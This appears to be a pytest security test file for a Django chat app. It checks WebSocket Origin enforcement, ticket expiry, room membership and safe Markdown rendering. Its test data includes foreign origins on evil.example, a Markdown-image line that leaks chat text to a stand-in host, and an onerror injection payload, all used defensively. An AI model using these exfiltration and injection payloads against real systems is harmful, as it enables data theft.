"""Cross-site WebSocket hijacking and room access, against a real uvicorn server with real
WebSocket clients: the handshake's Origin, session cookies, tickets, non-members, room ids."""

from __future__ import annotations

import json
import math
import string
import time
import urllib.error
import urllib.request
from html.parser import HTMLParser
from typing import Any

import pytest
import websockets
from asgiref.sync import sync_to_async
from django.core import signing
from websockets.exceptions import InvalidStatus

from parley.models import Message, Room, new_public_id
from parley.realtime import auth
from parley.rendering import render_markdown
from parley.rooms import services
from parley.testing import session_cookie
from tests.servers import Peer, Server
from tests.sockets import (
    LONG_ANSWER,
    long_answer_streaming,
    only_error,
    refused_socket,
    room_path,
    still_streaming_then_complete,
)

pytestmark = [pytest.mark.server, pytest.mark.django_db(transaction=True)]

FOREIGN_ORIGINS = [
    "http://evil.example",
    "https://evil.example",
    "null",  # sandboxed iframes, file: pages
    "http://127.0.0.1.evil.example",
    "http://localhost.evil.example:8000",
    "http://[::1",  # not a URL at all
]


async def cookie_of(user: Any) -> str:
    return await sync_to_async(session_cookie)(user)


async def handshake_status(server: Server, path: str, headers: dict[str, str]) -> int:
    """The HTTP status of a WebSocket handshake the server must refuse."""
    with pytest.raises(InvalidStatus) as refused:
        async with websockets.connect(server.ws_url + path, additional_headers=headers):
            pass
    return refused.value.response.status_code


async def test_cross_site_handshake_with_the_victims_cookie_is_refused(
    servers, alice, private_room
):
    """A page on another site opening the room socket in the victim's browser sends the
    victim's session cookie with its own Origin: the handshake is refused (HTTP 403), as is
    one with no Origin at all (a non-browser client replaying the cookie)."""
    server = servers()
    cookie = await cookie_of(alice)
    path = room_path(private_room)
    for origin in FOREIGN_ORIGINS:
        status = await handshake_status(server, path, {"Cookie": cookie, "Origin": origin})
        assert status == 403, origin
    assert await handshake_status(server, path, {"Cookie": cookie}) == 403
    # The same cookie from the site's own pages opens the room: the refusals were the Origin's.
    own = await Peer.connect(server, private_room, alice)
    assert own.frames[0]["room"]["id"] == private_room.public_id
    await own.close()


async def test_only_the_sites_own_scheme_host_and_port_open_a_socket(servers, alice, private_room):
    """The Origin must be the page's own origin, not just a host in ALLOWED_HOSTS: a page on
    another port of the same host, the https or ftp or file origin of the host, or another
    allowed host's page cannot open a member's socket with the member's cookie (HTTP 403)."""
    server = servers()
    cookie = await cookie_of(alice)
    path = room_path(private_room)
    port = server.port
    for origin in (
        f"http://127.0.0.1:{port + 1}",
        "http://127.0.0.1",
        f"https://127.0.0.1:{port}",
        f"ftp://127.0.0.1:{port}",
        f"file://127.0.0.1:{port}",
        "file://",
        f"http://localhost:{port}",  # in ALLOWED_HOSTS, but not the host the page is on
    ):
        status = await handshake_status(server, path, {"Cookie": cookie, "Origin": origin})
        assert status == 403, origin
    own = await Peer.connect(server, private_room, alice)  # Origin http://127.0.0.1:<port>
    assert own.frames[0]["type"] == "hello"
    await own.close()


async def test_allowed_hosts_star_still_refuses_foreign_origins(servers, alice, private_room):
    """With ALLOWED_HOSTS=['*'] (which system check parley.W003 flags) the Origin is still
    compared with the host the handshake names: foreign, null and missing Origins fail."""
    server = servers({"ALLOWED_HOSTS": "*"})
    cookie = await cookie_of(alice)
    path = room_path(private_room)
    for origin in ("http://evil.example", "null", f"https://127.0.0.1:{server.port}"):
        status = await handshake_status(server, path, {"Cookie": cookie, "Origin": origin})
        assert status == 403, origin
    assert await handshake_status(server, path, {"Cookie": cookie}) == 403
    own = await Peer.connect(server, private_room, alice)
    assert own.frames[0]["type"] == "hello"
    await own.close()


async def test_anonymous_socket_is_told_and_closed_with_4401(servers, private_room):
    server = servers()
    origin = {"Origin": server.http_url}
    for headers in (origin, {**origin, "Cookie": "sessionid=not-a-session"}):
        frames, code = await refused_socket(server, room_path(private_room), headers)
        only_error(frames, "unauthenticated")
        assert code == 4401


async def test_ticket_opens_its_own_room_only_and_only_until_it_expires(
    servers, alice, private_room, shared_room
):
    """Alice is a member of both rooms; her ticket for the private room does not open the
    shared one, a ticket issued longer ago than TICKET_MAX_AGE (300 s) opens nothing, and a
    ticket does not lift the Origin check."""
    server = servers()
    origin = {"Origin": server.http_url}
    ticket = await sync_to_async(auth.ticket_issue)(user=alice, room=private_room.public_id)
    query = f"?ticket={ticket}"

    async with websockets.connect(
        server.ws_url + room_path(private_room) + query, additional_headers=origin
    ) as ws:
        hello = json.loads(await ws.recv())
    assert hello["type"] == "hello" and hello["user"]["name"] == "alice"

    frames, code = await refused_socket(server, room_path(shared_room) + query, origin)
    only_error(frames, "forbidden")
    assert code == 4403

    class IssuedAnHourAgo(signing.TimestampSigner):
        def timestamp(self) -> str:
            return signing.b62_encode(int(time.time()) - 3600)

    old = IssuedAnHourAgo(salt=auth.SALT).sign_object(
        {"u": alice.pk, "r": private_room.public_id}, compress=True
    )
    for stale in (old, ticket[:-4] + "AAAA"):  # expired; tampered with
        frames, code = await refused_socket(
            server, room_path(private_room) + f"?ticket={stale}", origin
        )
        only_error(frames, "unauthenticated")
        assert code == 4401

    path = room_path(private_room) + query
    assert await handshake_status(server, path, {"Origin": "http://evil.example"}) == 403


async def test_non_member_cannot_join_read_or_post(servers, alice, bob, private_room):
    """While an answer streams in Alice's private room, Bob opens its socket (and the same
    room by its numeric pk, and a room that does not exist) and sends a message, a resume
    and a stop at once: each socket gets one `forbidden` error and 4403, and nothing of the
    room; Alice sees nothing of Bob, and nothing of his is stored."""
    server = servers(LONG_ANSWER)
    peer, answer = await long_answer_streaming(server, private_room, alice)
    headers = {"Cookie": await cookie_of(bob), "Origin": server.http_url}
    attempts = [
        {"type": "send", "client_id": "b1", "text": "let me in"},
        {"type": "resume", "after": 0},
        {"type": "cancel"},
    ]
    refusals = []
    for target in (private_room, str(private_room.pk), "no-such-room"):
        frames, code = await refused_socket(server, room_path(target), headers, then_send=attempts)
        only_error(frames, "forbidden")
        assert code == 4403
        refusals.append(frames[0])
    # Unknown room, numeric pk and foreign room are refused alike: no room exists to a probe.
    assert len({json.dumps(r, sort_keys=True) for r in refusals}) == 1

    await still_streaming_then_complete(peer, answer)
    question = next(f for f in peer.frames if f["type"] == "ack")["message"]
    announced = {f["message"]["id"] for f in peer.frames if f["type"] == "message"}
    assert announced == {question["id"], answer["id"]}
    authors = await sync_to_async(
        lambda: set(Message.objects.filter(room=private_room).values_list("author", flat=True))
    )()
    assert authors == {alice.pk, None}  # Alice's question and the assistant's answer
    await peer.close()


async def test_non_member_cannot_stop_an_answer_in_a_room_they_are_not_in(
    servers, alice, bob, private_room
):
    """Bob, connected to a room of his own, names Alice's streaming answer in a `cancel`,
    and tries a ticket for his room on hers: her answer streams on to the end."""
    server = servers(LONG_ANSWER)
    peer, answer = await long_answer_streaming(server, private_room, alice)
    bobs_room = await sync_to_async(services.room_create)(owner=bob, title="Bob's", kind="private")
    bob_peer = await Peer.connect(server, bobs_room, bob)
    for frame in ({"message_id": answer["id"]}, {}):
        await bob_peer.send(type="cancel", **frame)
        error = await bob_peer.expect(lambda f: f["type"] == "error")
        assert error["code"] == "nothing_to_cancel"

    ticket = await sync_to_async(auth.ticket_issue)(user=bob, room=bobs_room.public_id)
    frames, code = await refused_socket(
        server,
        room_path(private_room) + f"?ticket={ticket}",
        {"Origin": server.http_url},
        then_send=[{"type": "cancel"}, {"type": "cancel", "message_id": answer["id"]}],
    )
    only_error(frames, "forbidden")
    assert code == 4403

    await still_streaming_then_complete(peer, answer)
    await peer.close()
    await bob_peer.close()


def test_room_ids_are_random_with_at_least_128_bits():
    """Room ids are the only secret between a stranger and a room's socket address (the
    membership check still applies): 1,000 fresh ids, all different, whose characters vary
    at every position as random ones do."""
    ids = [new_public_id() for _ in range(1000)]
    assert len(set(ids)) == len(ids)
    alphabet = set(string.ascii_letters + string.digits + "-_")  # URL-safe base64
    assert all(set(i) <= alphabet for i in ids)
    assert {len(i) for i in ids} == {len(ids[0])}
    # Bits each position carries, from the characters seen there: 6 where all 64 turn up, 0
    # for a fixed part, few for a counter or a timestamp.
    bits = sum(
        math.ceil(math.log2(len({i[position] for i in ids}))) for position in range(len(ids[0]))
    )
    assert bits >= 128, f"room ids carry {bits} random bits"
    assert Room._meta.get_field("public_id").default is new_public_id


async def test_numeric_pk_does_not_open_a_room(servers, alice, private_room):
    """The room's page and socket answer to its public id only, even for a member."""
    server = servers()
    cookie = await cookie_of(alice)

    def page_status(key: str) -> int:
        request = urllib.request.Request(f"{server.http_url}/rooms/{key}/")
        request.add_header("Cookie", cookie)
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                return response.status
        except urllib.error.HTTPError as exc:
            return exc.code

    assert await sync_to_async(page_status)(private_room.public_id) == 200
    assert await sync_to_async(page_status)(str(private_room.pk)) == 404
    headers = {"Cookie": cookie, "Origin": server.http_url}
    frames, code = await refused_socket(server, room_path(str(private_room.pk)), headers)
    only_error(frames, "forbidden")
    assert code == 4403


def test_markdown_images_are_shown_as_links_and_never_loaded():
    """An image in the assistant's Markdown would be fetched by every reader's browser, with
    whatever the URL carries (`![a](https://evil.example/?q=<chat text>)`): it becomes a link
    labelled with its alt text, which loads nothing unless followed."""

    def tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
        found: list[tuple[str, dict[str, str | None]]] = []

        class Tags(HTMLParser):
            def handle_starttag(self, tag: str, attrs: list) -> None:
                found.append((tag, dict(attrs)))

        Tags().feed(html)
        return found

    leak = "https://evil.example/chart.png?q=secret"
    for markdown in (
        f"![secret chart]({leak})",
        f"![secret chart][c]\n\n[c]: {leak}",
        f'![secret chart]({leak} "a title")',
    ):
        html = render_markdown(markdown)
        ((tag, attrs),) = [t for t in tags(html) if t[0] != "p"]
        assert tag == "a" and attrs["href"] == leak, html
        assert "secret chart</a>" in html
    html = render_markdown(f'![x]({leak} "\\" onerror=\\"alert(1)")')
    assert [set(attrs) for tag, attrs in tags(html) if tag == "a"] == [
        {"href", "title", "target", "rel"}
    ]
    nested = render_markdown(f"[![secret chart]({leak})](https://example.com/)")
    assert [(tag, attrs.get("href")) for tag, attrs in tags(nested) if tag != "p"] == [
        ("a", "https://example.com/")  # links do not nest: the image is its label only
    ]
    assert "secret chart" in nested
    assert "<img" not in render_markdown("![pixel](data:image/png;base64,iVBORw0KGgo=)")
